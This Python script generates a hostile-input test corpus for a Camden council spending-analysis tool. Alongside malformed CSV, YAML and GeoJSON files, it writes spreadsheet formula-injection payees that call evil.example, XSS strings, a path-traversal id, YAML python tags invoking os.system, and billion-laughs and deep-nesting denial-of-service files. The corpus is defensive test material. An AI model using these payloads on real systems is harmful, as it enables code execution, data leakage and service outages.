"""Write the hostile-input corpus in this folder (deterministic; the outputs are committed).

Run ``.venv/bin/python tests/data/bad/make_corpus.py`` after changing a case, then update
``manifest.yaml`` and ``docs/HOSTILE_INPUTS.md``. Every file is small; the big cases (an
enormous line, a line of 200,000 fields, a million rows) are generated in a temporary folder
by ``tests/test_hostile_inputs.py`` itself.
"""

from __future__ import annotations

import bz2
import csv
import gzip
import io
import json
import lzma
import zipfile
from pathlib import Path

import geopandas as gpd
from openpyxl import Workbook
from shapely import GeometryCollection, MultiPoint, Point, Polygon, box

HERE = Path(__file__).resolve().parent
URI = "http://opendatacommunities.org/id/london-borough-council/camden"
CAMDEN_HEADER = [
    "Organisation Label", "Organisation URI", "Payment Date", "Payment Month", "Payment Year",
    "Financial Year", "Beneficiary Name", "Purpose", "Organisational Unit", "Amount GBP",
    "Irrecoverable VAT Amount GBP", "Latest Financial Year", "Latest Year", "Latest Month",
    "Unique Identifier",
]
PURPOSE = "Estate cleaning"  # the shipped catalogue classifies it (caretaking)
ORG_UNIT = "Housing"


def row(uid: str, amount: str, *, date: str = "01/06/2024", payee: str = "ACME CLEANING LTD",
        purpose: str = PURPOSE) -> list[str]:
    """One Camden-format row (15 fields)."""
    return ["London Borough of Camden", URI, date, "Jun", "2024", "2024/25", payee, purpose,
            ORG_UNIT, amount, "0", "2024/25", "2024", "Jun", uid]


def csv_text(rows: list[list[str]], delimiter: str = ",", header: list[str] | None = None,
             newline: str = "\n") -> str:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator=newline)
    writer.writerow(header or CAMDEN_HEADER)
    writer.writerows(rows)
    return out.getvalue()


def write(name: str, data: str | bytes, encoding: str = "utf-8") -> None:
    path = HERE / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data if isinstance(data, bytes) else data.encode(encoding))


def good(prefix: str, n: int = 3) -> list[list[str]]:
    """``n`` valid rows of 100.00, 200.00, ... with ids ``<prefix>-1`` ..."""
    return [row(f"{prefix}-{i}", f"{i * 100}.00") for i in range(1, n + 1)]


# -- spend ---------------------------------------------------------------------------------------


def spend_files() -> None:
    text = csv_text(good("trunc", 3) + [row("trunc-4", "400.00")])
    write("spend/truncated.csv", text[: text.rindex("Housing") + 4])  # cut inside the 9th field
    quoted = csv_text(good("trq", 2) + [row("trq-3", "300.00", payee="SMITH, JONES & CO")])
    write("spend/truncated_in_quotes.csv", quoted[: quoted.rindex("JONES")])
    write("spend/semicolons.csv", csv_text(good("semi", 3), delimiter=";"))
    write("spend/tabs.csv", csv_text(good("tab", 3), delimiter="\t"))
    mixed = csv_text([]) + csv_text(good("mix", 3), delimiter=";").split("\n", 1)[1]
    write("spend/mixed_delimiters.csv", mixed)
    spend_file_kinds()
    spend_encodings()
    spend_headers()
    spend_values()
    spend_round_two()


def spend_file_kinds() -> None:
    wb = Workbook()
    ws = wb.active
    ws.append(CAMDEN_HEADER)
    ws.append(row("xl-1", "100.00"))
    buf = io.BytesIO()
    wb.save(buf)
    write("spend/excel_renamed.csv", buf.getvalue())
    write("spend/old_excel_renamed.csv", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504)
    write("spend/gzipped.csv", gzip.compress(csv_text(good("gz")).encode(), mtime=0))
    write("spend/pdf_renamed.csv", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< >>\nendobj\n%%EOF\n")
    write("spend/empty.csv", b"")
    write("spend/html_error_page.csv",
          "<!DOCTYPE html>\n<html><head><title>Session expired</title></head>\n"
          "<body><p>Please log in again.</p></body></html>\n")
    noise = bytes((i * 73 + 41) % 256 for i in range(2048))  # fixed "random" bytes
    write("spend/binary_noise.csv", noise)


def spend_encodings() -> None:
    def text(prefix: str) -> str:  # ids unique per file: the files are also loaded together
        return csv_text([row(f"{prefix}-1", "£1,234.56", payee="Café Rouge £ Ltd"),
                         row(f"{prefix}-2", "99.99")])

    write("spend/utf8_bom.csv", b"\xef\xbb\xbf" + text("u8bom").encode("utf-8"))
    write("spend/utf16le_bom.csv", text("u16le").encode("utf-16"))  # Python writes a LE BOM
    write("spend/utf16be_bom.csv", b"\xfe\xff" + text("u16be").encode("utf-16-be"))
    write("spend/utf16le_no_bom.csv", text("u16nb").encode("utf-16-le"))
    write("spend/latin1.csv", text("lat1").encode("latin-1"))
    cp = csv_text([row("cp-1", "£10.00", payee="“Smart” Quotes – €uro Ltd"), row("cp-2", "5.00")])
    write("spend/cp1252.csv", cp.encode("cp1252"))
    write("spend/cr_line_endings.csv", csv_text(good("cr", 3), newline="\r"))


def spend_headers() -> None:
    missing = [h for h in CAMDEN_HEADER if h != "Amount GBP"]
    write("spend/missing_column.csv",
          csv_text([r[:9] + r[10:] for r in good("miss", 2)], header=missing))
    dup = [*CAMDEN_HEADER, "Amount GBP"]
    write("spend/duplicated_column.csv", csv_text([r + ["999.00"] for r in good("dcol", 2)],
                                                  header=dup))
    loose = [" ".join(h.upper().split()).replace(" ", "  ") for h in CAMDEN_HEADER]
    write("spend/header_case_and_spaces.csv", csv_text(good("loose", 2), header=loose))
    write("spend/preamble.csv",
          "London Borough of Camden\nPayments over £500\n\n" + csv_text(good("pre", 2)))
    write("spend/markup_in_header.csv",
          "Date,[/bold],[link=http://evil.example]x[/link],\x1b[31mred\x1b[0m,\x07bell\n1,2,3,4,5\n")


def spend_values() -> None:
    amounts = ["£1,234.56", "(1,234.56)", "1.234,56", "", "twelve pounds", "-£1,000",
               "1,23", "12.345", "1e5", "NaN", "１２３", "£"]
    write("spend/amounts.csv",
          csv_text([row(f"amt-{i}", a) for i, a in enumerate(amounts, start=1)]))
    write("spend/largest_amount.csv", csv_text(
        [row("max-1", "999,999,999,999,999.99"), row("max-2", "-0.01"), row("max-3", "(0.99)")]))
    write("spend/amounts_too_big_to_add.csv",
          csv_text([row(f"huge-{i}", "999999999999999.99") for i in range(1, 101)]))
    dates = ["31/02/2024", "29/02/2023", "29/02/2024", "00/01/2024", "1/13/2024", "01/01/0024",
             "2024-06-01", "", "31/12/9999", "01/06/2024 10:00"]
    write("spend/dates.csv",
          csv_text([row(f"date-{i}", "10.00", date=d) for i, d in enumerate(dates, start=1)]))
    write("spend/duplicate_ids.csv", csv_text([
        row("dup-1", "10.00"), row("dup-2", "20.00"), row("dup-1", "30.00"),
        row("dup-1", "40.00"), row("DUP-2", "50.00"),
    ]))
    payees = [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click for refund")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "<script>alert('payee')</script>",
        '<img src=x onerror="window.__placespend_xss=1">',
        "[/bold] Rich [link=http://evil.example]markup[/link]",
        "Bell\x07and\x1b[31mANSI\x1b[0m Ltd",
    ]
    hostile = [row(f"hp-{i}", "1000.00", payee=p) for i, p in enumerate(payees, start=1)]
    write("spend/hostile_payees.csv", csv_text(hostile, newline="\r\n"))  # quotes the "\r"
    write("spend/unclosed_quote.csv",
          csv_text(good("uq", 1)) + 'London Borough of Camden,x,01/06/2024,Jun,2024,2024/25,'
          '"ACME, unclosed,Estate cleaning,Housing,20.00,0,2024/25,2024,Jun,uq-2\n'
          + csv_text(good("uq-after", 2)).split("\n", 1)[1])
    write("spend/blank_lines_and_totals.csv",
          csv_text(good("tot", 2)).replace("\n", "\n\n", 1)
          + ",,,,,,,Total,,300.00,,,,,\n")


# -- round two (issue 9): money counted twice, empty files, compressed and UTF-32 files ------


def no_ids(prefix: str, n: int = 4) -> list[list[str]]:
    """``n`` valid rows without transaction ids (so only their fields tell a copy apart), one
    payee with characters outside ASCII."""
    rows = [row("", f"{i * 100}.00", date=f"0{i}/06/2024") for i in range(1, n + 1)]
    rows[1][6] = "Café Rouge £ Ltd"
    rows[2][6] = f"{prefix} Services"
    return rows


def zstd_frame(data: bytes) -> bytes:
    """A valid zstd frame holding ``data`` as one raw block (no zstd library needed)."""
    assert 256 <= len(data) < 65536 + 256
    descriptor = bytes([0x60])  # single segment, 2-byte content size (stored minus 256)
    size = (len(data) - 256).to_bytes(2, "little")
    block = ((len(data) << 3) | 1).to_bytes(3, "little")  # last block, raw
    return b"\x28\xb5\x2f\xfd" + descriptor + size + block + data


def spend_round_two() -> None:
    write("spend/no_ids.csv", csv_text(no_ids("Mears")))
    write("spend/header_only.csv", csv_text([]) + "\n\n")
    tot = []
    for uid, amount, payee, purpose in [
        ("t-1", "100.00", "ACME CLEANING LTD", PURPOSE),
        ("t-2", "200.00", "MEARS LTD", PURPOSE),
        ("", "300.00", "", ""),  # unlabelled subtotal of the two rows above, dated
        ("t-4", "50.00", "VEOLIA", PURPOSE),
        ("t-5", "25.00", "VEOLIA", PURPOSE),
        ("", "75.00", "Sub-total", ""),  # labelled subtotal in the payee, dated
        ("t-7", "10.00", "ACME CLEANING LTD", PURPOSE),
        ("", "385.00", "", "TOTAL SPEND"),  # the label in the purpose
        ("", "385.00", "", ""),  # unlabelled grand total of every named row
    ]:
        tot.append(row(uid, amount, payee=payee, purpose=purpose))
    write("spend/totals_anywhere.csv", csv_text(tot))
    named = [
        ("ts-1", "1000.00", "Total Gas & Power Ltd"), ("ts-2", "20.00", "TOTAL UK LTD"),
        ("ts-3", "30.00", "Totally Locum Ltd"), ("ts-4", "40.00", "Totalcare Ltd"),
        ("ts-5", "50.00", "Sub Total Catering Ltd"), ("ts-6", "60.00", "Totals Ltd"),
    ]
    suppliers = [row(u, a, payee=p) for u, a, p in named]
    suppliers.append(row("ts-7", "5.00", payee="", purpose=""))  # unnamed, but no sum: a payment
    write("spend/total_suppliers.csv", csv_text(suppliers))
    text = csv_text(good("round2"))
    write("spend/xz.csv", lzma.compress(text.encode()))
    write("spend/bzip2.csv", bz2.compress(text.encode()))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr(zipfile.ZipInfo("spend.csv", date_time=(2024, 6, 1, 0, 0, 0)), text)
    write("spend/zip_archive.csv", buf.getvalue())
    write("spend/zstd.csv", zstd_frame(text.encode()))
    write("spend/utf32le_bom.csv", text.encode("utf-32"))  # Python writes a LE BOM
    write("spend/utf32be_bom.csv", b"\x00\x00\xfe\xff" + text.encode("utf-32-be"))
    write("spend/utf32le_no_bom.csv", text.encode("utf-32-le"))


# -- column mappings ---------------------------------------------------------------------------


def mapping_files() -> None:
    write("mappings/python_tag.yaml",
          "name: !!python/object/apply:os.system ['touch /tmp/placespend_pwned']\n"
          "date: Payment Date\namount: Amount GBP\npayee: Beneficiary Name\n")
    write("mappings/unknown_key.yaml",
          "name: typo\ndate: Payment Date\namount: Amount GBP\npayee: Beneficiary Name\n"
          "ammount_column: Amount GBP\n")
    write("mappings/bad_date_format.yaml",
          "name: odd\ndate: Payment Date\namount: Amount GBP\npayee: Beneficiary Name\n"
          "date_formats: ['%d/%m/%Q', '%Y-%m-%d']\n")
    write("mappings/column_not_in_file.yaml",
          "name: wrong\ndate: Date Paid\namount: Amount GBP\npayee: Beneficiary Name\n")
    mapping_files_round_two()


CAMDEN_MAPPING = "date: Payment Date\namount: Amount GBP\npayee: Beneficiary Name\n"


def billion_laughs(first: str, last: str) -> str:
    """Nine lists of nine aliases of the last: ~1 KB standing for 9**9 (387 million) strings."""
    lines = [f"lol0: &a0 [{', '.join(['lol'] * 9)}]"]
    lines += [f"lol{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 9)]
    return first + "\n".join(lines) + f"\n{last}: *a8\n"


def mapping_files_round_two() -> None:
    write("mappings/billion_laughs.yaml",
          billion_laughs("name: laughs\ndate: Payment Date\namount: Amount GBP\n", "payee"))
    write("mappings/self_reference.yaml",
          "name: loop\ndate: &loop [Payment Date, *loop]\namount: Amount GBP\n"
          "payee: Beneficiary Name\n")
    write("mappings/deeply_nested.yaml", "name: deep\ndate: " + "[" * 10_000 + "\n")
    write("mappings/key_given_twice.yaml",
          "name: twice\n" + CAMDEN_MAPPING + "date: Payment Month\n")
    write("mappings/wrong_types.yaml",
          "name: wrong shape\ndate: [Payment Date, [Payment Month]]\namount: 10\n"
          "payee: Beneficiary Name\npurpose:\ndate_formats: {day: '%d'}\n"
          "constants: {org_unit: {name: Housing}}\n")
    write("mappings/wrong_types.json",
          '{\n  "date": 2024,\n  "payee": [],\n'
          '  "date_formats": ["%d/%m/%Y", 5],\n  "transaction_id": true\n}\n')
    write("mappings/key_given_twice.json",
          '{\n  "date": "Payment Date",\n  "amount": "Amount GBP",\n'
          '  "payee": "Beneficiary Name",\n  "amount": "Irrecoverable VAT Amount GBP"\n}\n')
    write("mappings/deeply_nested.json", '{"date": ' + "[" * 10_000 + "\n")
    write("mappings/one_column_twice.yaml",
          "name: same column\n" + CAMDEN_MAPPING + "purpose: beneficiary  name\n")


# -- contracts register ---------------------------------------------------------------------------

CONTRACT_HEADER = ["contract_id", "title", "supplier", "service", "purpose", "scope_type",
                   "scope_code", "annual_value_gbp", "start_date", "end_date"]


def contract_files() -> None:
    write("contracts/unknown_ward.csv", csv_text(
        [["C1", "Cleaning lot", "ACME CLEANING LTD", "caretaking", "", "ward", "E05999999",
          "1000", "2024-04-01", "2025-03-31"]], header=CONTRACT_HEADER))
    write("contracts/bad_rows.csv", csv_text(
        [["C1", "Lot", "ACME", "caretaking", "", "borough", "", "-5", "2024-04-01", "2025-03-31"],
         ["C1", "Lot", "", "caretaking", "", "estate", "", "10", "31/02/2024", "2023-01-01"],
         ["C2", "Lot", "ACME", "", "", "region", "", "£1.234,56", "2024-04-01", ""]],
        header=CONTRACT_HEADER))
    write("contracts/unknown_service.csv", csv_text(
        [["C1", "Cleaning lot", "ACME CLEANING LTD", "caretakin", "", "borough", "", "1000",
          "2024-04-01", "2025-03-31"],
         ["C2", "Jetpacks", "ROCKET LTD", "jetpacks", "", "borough", "", "500", "", ""],
         ["C3", "Repairs", "MEARS LTD", "", "Responsive Repairs Costs", "borough", "", "100",
          "", ""]], header=CONTRACT_HEADER))


# -- catalogue -------------------------------------------------------------------------------------

CATALOGUE = """\
outcomes:
  - id: empowered
    label: Residents are empowered
services:
  - id: caretaking
    name: Caretaking
    directorate: Housing
    outcomes: [empowered]
    default_scope: estate
    key: {key}
    alt_keys: [area]
    delegable: true
    place_based: true
    description: Follows homes.{extra_field}
  - id: levies
    name: Levies
    directorate: Finance
    outcomes: [empowered]
    default_scope: borough
    key: area
    delegable: false
    place_based: false
    description: Paid to other bodies.
rules:
  - service: caretaking
    purpose: caretak|cleaning
  - service: levies
    purpose: ^levies paid$
links:
  - from: caretaking
    to: {link_to}
    relation: reinforces
    outcome: empowered
    rationale: Clean blocks.
"""


def catalogue_files() -> None:
    base = {"key": "households", "extra_field": "", "link_to": "levies"}
    write("catalogue/unknown_key.yaml", CATALOGUE.format(**{**base, "key": "househods"}))
    write("catalogue/unknown_field.yaml",
          CATALOGUE.format(**{**base, "extra_field": "\n    budget_gbp: 1000"}))
    write("catalogue/missing_field.yaml",
          CATALOGUE.format(**base).replace("    directorate: Housing\n", "", 1))
    write("catalogue/link_to_missing_service.yaml",
          CATALOGUE.format(**{**base, "link_to": "street_lighting"}))
    write("catalogue/python_tag.yaml",
          "!!python/object/apply:os.system ['touch /tmp/placespend_pwned']\n")
    write("catalogue/not_yaml.yaml", "outcomes: [\n  - id: {oops\n")
    catalogue_files_round_two(base)


WRONG_TYPES_CATALOGUE = """\
outcomes:
  - id: empowered
    label: Residents are empowered
services:
  - id: caretaking
    name: [Caretaking, Cleaning]
    directorate: Housing
    outcomes: [empowered]
    default_scope: estate
    key: households
    alt_keys: [area]
    delegable: yes please
    place_based: true
    description: Follows homes.
  - id: true
    name: Levies
    directorate: Finance
    outcomes: {empowered: true}
    default_scope: borough
    key: area
    delegable: false
    place_based: false
    description: Paid to other bodies.
rules:
  - service: caretaking
    purpose: 42
  - service: caretaking
    payee: [ACME]
links:
  - from: caretaking
    to: caretaking
    relation: reinforces
    outcome: empowered
    rationale:
"""

RE2_REJECTS = [
    ("caretaking", "purpose", "x{1001}"),  # RE2 repeats at most 1000 times
    ("caretaking", "purpose", "(cleaning{1000}){3}"),  # 3000 in all
    ("levies", "payee", ".{1000}" * 100),  # a program over RE2's memory budget
    ("levies", "org_unit", "(" * 60 + "levies" + ")" * 60),  # nested 60 deep
]


def catalogue_files_round_two(base: dict[str, str]) -> None:
    good = CATALOGUE.format(**base)
    head = good[: good.index("rules:\n")]
    write("catalogue/billion_laughs.yaml", billion_laughs("", "outcomes")
          + good[good.index("services:"):])
    write("catalogue/deeply_nested.yaml", "outcomes: " + "[" * 10_000 + "\n")
    write("catalogue/key_given_twice.yaml",
          good + "rules:\n  - service: levies\n    purpose: ^precepts$\n")
    write("catalogue/wrong_types.yaml", WRONG_TYPES_CATALOGUE)
    rules = "".join(f"  - service: {service}\n    {field}: '{pattern}'\n"
                    for service, field, pattern in RE2_REJECTS)
    write("catalogue/patterns_re2_rejects.yaml",
          head + "rules:\n" + rules + good[good.index("links:"):])


# -- boundaries ------------------------------------------------------------------------------------

# 100 m squares centred on points inside shipped Camden estates (EPSG:27700).
CENTRES = [(531158, 181913), (530427, 182813), (529843, 183235)]
OUTSIDE_CAMDEN = (383000, 398000)  # Manchester


def square(x: float, y: float, half: float = 50) -> Polygon:
    return box(x - half, y - half, x + half, y + half)


def estates(rows: list[dict], crs: str | None = "EPSG:27700") -> gpd.GeoDataFrame:
    return gpd.GeoDataFrame(rows, geometry="geometry", crs=crs)


def geojson(name: str, frame: gpd.GeoDataFrame) -> None:
    """Write ``frame`` (EPSG:27700) as RFC 7946 GeoJSON (WGS84, 6 decimals)."""
    data = json.loads(frame.to_crs("EPSG:4326").to_json(drop_id=True))
    write(name, json.dumps(_rounded(data), indent=1) + "\n")


def _rounded(obj):
    if isinstance(obj, float):
        return round(obj, 6)
    if isinstance(obj, list):
        return [_rounded(v) for v in obj]
    if isinstance(obj, dict):
        return {k: _rounded(v) for k, v in obj.items()}
    return obj


def boundary_files() -> None:
    a, b, c = (square(*p) for p in CENTRES)
    hostile = estates([
        {"estate_id": "../../escape", "geometry": a,
         "name": '=HYPERLINK("http://evil.example","Click me") Estate'},
        {"estate_id": "xss-1", "geometry": b,
         "name": '<img src=x onerror="window.__placespend_xss=1"><script>alert(1)</script>'},
        {"estate_id": "md-1", "geometry": c,
         "name": "[Click](http://evil.example) ![x](http://evil.example/t.png) **bold** [/red]"},
    ])
    geojson("boundaries/estates_hostile_names.geojson", hostile)
    one = {"estate_id": "E1", "name": "One"}
    bowtie = Polygon([(CENTRES[0][0] - 50, CENTRES[0][1] - 50),
                      (CENTRES[0][0] + 50, CENTRES[0][1] + 50),
                      (CENTRES[0][0] + 50, CENTRES[0][1] - 50),
                      (CENTRES[0][0] - 50, CENTRES[0][1] + 50)])
    geojson("boundaries/estates_self_intersecting.geojson",
            estates([{**one, "geometry": bowtie}, {"estate_id": "E2", "name": "Two",
                                                   "geometry": b}]))
    geojson("boundaries/estates_empty_geometry.geojson",
            estates([{**one, "geometry": Polygon()}, {"estate_id": "E2", "name": "Two",
                                                      "geometry": b}]))
    geojson("boundaries/estates_points.geojson",
            estates([{**one, "geometry": Point(CENTRES[0])},
                     {"estate_id": "E2", "name": "Two", "geometry": MultiPoint([CENTRES[1]])}]))
    geojson("boundaries/estates_geometry_collection.geojson",
            estates([{**one, "geometry": GeometryCollection([a, Point(CENTRES[0])])}]))
    swapped = estates([{**one, "geometry": a}, {"estate_id": "E2", "name": "Two",
                                                "geometry": b}]).to_crs("EPSG:4326")
    data = json.loads(swapped.to_json(drop_id=True))
    for feature in data["features"]:
        ring = feature["geometry"]["coordinates"][0]
        feature["geometry"]["coordinates"][0] = [[round(y, 6), round(x, 6)] for x, y in ring]
    write("boundaries/estates_lat_lon_swapped.geojson", json.dumps(data, indent=1) + "\n")
    metres = json.loads(estates([{**one, "geometry": a}]).to_json(drop_id=True))
    del metres["crs"]  # RFC 7946: GeoJSON without "crs" is longitude/latitude
    write("boundaries/estates_metres_in_geojson.geojson", json.dumps(metres, indent=1) + "\n")
    declared = json.loads(estates([{**one, "geometry": a}]).to_crs("EPSG:4326")
                          .to_json(drop_id=True))
    declared["crs"] = {"type": "name", "properties": {"name": "urn:ogc:def:crs:EPSG::27700"}}
    write("boundaries/estates_declared_bng_but_degrees.geojson",
          json.dumps(_rounded(declared), indent=1) + "\n")
    no_crs = estates([{**one, "geometry": a}], crs=None)
    no_crs.to_parquet(HERE / "boundaries/estates_no_crs.parquet")
    geojson("boundaries/estates_overlapping.geojson",
            estates([{**one, "geometry": a},
                     {"estate_id": "E2", "name": "Two",
                      "geometry": square(CENTRES[0][0] + 30, CENTRES[0][1])}]))
    geojson("boundaries/estates_outside_every_ward.geojson",
            estates([{**one, "geometry": a},
                     {"estate_id": "E2", "name": "Far away", "geometry": square(*OUTSIDE_CAMDEN)}]))
    geojson("boundaries/estates_duplicate_ids.geojson",
            estates([{**one, "geometry": a}, {**one, "name": "Again", "geometry": b}]))
    geojson("boundaries/estates_missing_columns.geojson",
            estates([{"id": "E1", "geometry": a}]))
    write("boundaries/estates_not_vector.geojson", csv_text(good("nv", 1)))
    write("boundaries/estates_no_features.geojson",
          '{"type": "FeatureCollection", "features": []}\n')


# -- round two: overlapping contracts, estates off or over the borough ---------------------------

# The borough's westmost point (the shipped wards' union, EPSG:27700): a 100 m square centred
# on it lies 72% outside the borough.
WEST_EDGE = (523954.5, 185541.5)
BOROUGH_FILE = HERE.parents[2] / "boundaries" / "borough.parquet"


def overlapping_contract_files() -> None:
    """Two ward contracts of Veolia for waste collection sharing 2025-07-01..2026-03-31; the
    payment of 1 September 2025 in tests/data/camden_sample.csv matches both."""
    veolia = ["VEOLIA ES (UK) LTD", "waste_collection", ""]
    write("contracts/overlapping_dates.csv", csv_text(
        [["C1", "Waste, north lot", *veolia, "ward", "E05013652", "1000000", "2025-04-01",
          "2026-03-31"],
         ["C2", "Waste, south lot", *veolia, "ward", "E05013653", "1000000", "2025-07-01",
          "2026-06-30"]], header=CONTRACT_HEADER))
    write("contracts/overlapping_same_scope.csv", csv_text(
        [["C1", "Waste, borough", *veolia, "borough", "", "1000000", "2025-04-01",
          "2026-03-31"],
         ["C2", "Waste, borough (renewal)", *veolia, "borough", "E09000007", "1000000",
          "2025-07-01", "2026-06-30"]], header=CONTRACT_HEADER))


def borough_share_files() -> None:
    one = {"estate_id": "E1", "name": "One", "geometry": square(*CENTRES[0])}
    geojson("boundaries/estates_mostly_outside_the_borough.geojson",
            estates([one, {"estate_id": "E2", "name": "On the edge",
                           "geometry": square(*WEST_EDGE)}]))
    borough = gpd.read_parquet(BOROUGH_FILE).to_crs("EPSG:27700").geometry.iloc[0]
    geojson("boundaries/estates_covering_the_borough.geojson",
            estates([{"estate_id": "B1", "name": "Camden", "geometry": borough.simplify(50)}]))


def main() -> None:
    spend_files()
    mapping_files()
    contract_files()
    catalogue_files()
    boundary_files()
    overlapping_contract_files()
    borough_share_files()


if __name__ == "__main__":
    main()
